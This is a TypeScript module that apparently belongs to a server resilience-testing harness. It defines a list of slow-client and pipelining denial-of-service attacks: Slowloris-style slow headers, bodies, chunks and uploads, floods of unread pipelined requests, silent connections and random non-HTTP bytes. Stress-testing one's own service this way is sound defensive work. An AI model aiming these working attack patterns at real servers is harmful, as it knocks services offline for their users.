import { randomUUID } from 'node:crypto'
import { setTimeout as pass } from 'node:timers/promises'
import { RawConnection, requestText } from '../RawConnection.ts'
import type { Attack, Battle } from './Attack.ts'

/** Milliseconds that a connection is held, at least and at most. */
const HELD = [3000, 12_000] as const
const TRICKLE = 500

interface Holding {
  connections: number
  /** Said at once. */
  first: (battle: Battle) => string
  /** Said again and again while the connection is held. */
  more?: string
  reads?: boolean
}

/** Opens connections from several addresses, says something, stays, and goes. */
async function hold(battle: Battle, { connections, first, more, reads = false }: Holding): Promise<string> {
  const opened: RawConnection[] = []
  try {
    for (let number = 0; number < connections && !battle.over.aborted; number += 1) {
      await battle.budget.take()
      const connection = await RawConnection.open(battle.entry, battle.address(), { reads })
      connection.say(first(battle))
      opened.push(connection)
    }
    const until = Date.now() + HELD[0] + battle.random() * (HELD[1] - HELD[0])
    while (Date.now() < until && !battle.over.aborted) {
      await pass(TRICKLE)
      await battle.budget.take()
      if (more !== undefined) for (const connection of opened) connection.say(more)
    }
    return opened.some(({ isOpen }) => !isOpen) ? 'some cut off' : 'all held'
  } finally {
    for (const connection of opened) connection.close()
  }
}

const post = (length: number): string =>
  `POST /api/auth HTTP/1.1\r\nHost: a\r\nContent-Type: application/json\r\nContent-Length: ${length}\r\n\r\n`

const uploadHead = (battle: Battle): string =>
  [
    `PATCH /api/uploads/${randomUUID()} HTTP/1.1`,
    'Host: a',
    `Authorization: Bearer ${battle.pick(battle.attackers.people)}`,
    'Content-Type: application/partial-upload',
    'Content-Length: 900000',
    'Upload-Offset: 0',
    'Upload-Length: 900000',
    'Upload-Name: a.pdf',
    '\r\n%PDF-1.7\n',
  ].join('\r\n')

const attack = (name: string, holding: (battle: Battle) => Holding): Attack => ({
  name,
  run: (battle) => hold(battle, holding(battle)),
})

/** Slow, silent and greedy clients, and pipelines that nobody reads. */
export const clientAttacks: readonly Attack[] = [
  attack('pipelined requests for the description of the API, unread', () => ({
    connections: 1,
    first: () => requestText('/api/openapi.json').repeat(230),
  })),
  attack('pipelined requests of one connection, unread', () => ({
    connections: 1,
    first: () => requestText('/api/portal').repeat(20_000),
  })),
  attack('pipelined files of many connections, unread', ({ asset }) => ({
    connections: 20,
    first: () => requestText(asset).repeat(1000),
  })),
  attack('pipelined sign-ins', () => ({
    connections: 4,
    first: () => `${post(32)}{"login":"a@b.az","password":"aa"}`.slice(0, -2).repeat(50),
  })),
  attack('pipelined requests behind a slow body', () => ({
    connections: 10,
    first: () => `${post(100)}{"login"${requestText('/api/portal').repeat(100)}`,
  })),
  attack('headers that come slowly', () => ({
    connections: 64,
    first: () => 'GET /api/portal HTTP/1.1\r\nHost: a\r\n',
    more: 'X-A: b\r\n',
  })),
  attack('bodies that come slowly', () => ({
    connections: 64,
    first: () => `${post(100_000)}{"login":"`,
    more: 'a',
  })),
  attack('chunks that come slowly', () => ({
    connections: 32,
    first: () =>
      'POST /api/auth HTTP/1.1\r\nHost: a\r\nContent-Type: application/json\r\nTransfer-Encoding: chunked\r\n\r\n',
    more: '1\r\n{\r\n',
  })),
  attack('uploads that come slowly', () => ({ connections: 40, first: uploadHead, more: '% \n' })),
  attack('connections that say nothing', () => ({ connections: 200, first: () => '' })),
  attack('connections that say half a line', () => ({ connections: 200, first: () => 'GET /hea' })),
  attack('answers that are left unread', ({ asset }) => ({
    connections: 64,
    first: () => requestText(asset),
  })),
  attack('headers without an end', () => ({
    connections: 4,
    first: () => 'GET / HTTP/1.1\r\nHost: a\r\n',
    more: 'X-Filling: y\r\n'.repeat(200),
    reads: true,
  })),
  attack('what is no HTTP', ({ random }) => ({
    connections: 20,
    first: () => Array.from({ length: 200 }, () => String.fromCharCode(Math.floor(random() * 256))).join(''),
    reads: true,
  })),
]
